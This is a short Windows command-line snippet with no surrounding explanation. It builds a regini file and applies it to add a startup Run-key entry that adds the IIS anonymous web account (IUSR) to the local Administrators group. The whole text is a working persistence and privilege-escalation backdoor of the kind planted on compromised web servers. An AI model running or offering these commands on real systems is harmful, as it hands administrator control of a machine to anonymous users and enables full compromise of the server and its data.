echo HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run > C:\keys.txt
echo   setup = "net localgroup Administrators IUSR /add" >> C:\keys.txt
regini C:\keys.txt
